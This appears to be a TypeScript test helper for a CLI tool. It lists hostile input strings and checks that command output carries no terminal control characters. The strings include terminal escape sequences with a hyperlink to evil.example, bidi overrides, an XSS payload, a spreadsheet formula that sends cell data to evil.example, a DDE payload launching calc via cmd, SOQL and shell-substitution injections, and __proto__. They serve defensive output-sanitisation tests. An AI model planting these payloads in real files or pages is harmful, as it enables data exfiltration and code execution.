import { expect } from 'chai';
import type { CliResult } from './cli.js';

/** Values that mean harm somewhere: on a terminal, in HTML, in a spreadsheet, in JSON, in SOQL, in an object's keys. */
export const hostileTexts: Readonly<Record<string, string>> = {
  ansi: 'A\u001b[2J\u001b[1;31mred\u001b[0m',
  title: 'A\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  c1: 'A\u009b31m\u009d0;owned\u009cB\u0085C\u007f\b\b\bD',
  bidi: 'user\u202egnp.exe\u2066x\u2069\u200f\u200e\u061cend',
  html: '<img src=x onerror=alert(1)><script>alert("x")</script>&lt;',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"x")',
  dde: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  nul: 'a\u0000b\u0001c',
  lines: 'first\r\nsecond\n=third\u2028fourth\u2029fifth',
  hidden: 'A\u200bB\u2060C\ufeffD\u00adE\u{e0041}F',
  emoji: '👩‍🚀 می‌خواهم e\u0301 \u{10ffff}',
  quotes: `"';--\\ ' OR Name != '' %s %j $(id) \`id\` !!`,
  composite: '@{c0.id} ${x} {{y}} %{z}',
  proto: '__proto__',
  csv: 'a,b;c\t"d"',
};

/** All of them in one line, as a message of an org may hold them; JSON also carries half a surrogate pair. */
export const hostileMessage = `${Object.values(hostileTexts).join(' ')} half \ud83d pair`;

// Controls but for line breaks and tabs of our own layout, bidi marks and overrides, separators, hidden characters.
const obeyed =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]|\p{Cs}/u;

/** Nothing in what a command put out has an effect on a terminal. Bytes that are no UTF-8 would show as U+FFFD. */
export function expectQuiet({ stdout, stderr }: Pick<CliResult, 'stdout' | 'stderr'>): void {
  for (const text of [stdout, stderr]) {
    const at = text.search(obeyed);
    expect(at < 0 ? '' : JSON.stringify(text.slice(Math.max(0, at - 60), at + 20))).to.equal('');
    expect(text).to.not.include('\ufffd');
  }
}

/** A cell of a CSV file that stands for exactly this text. */
export function csvCell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}
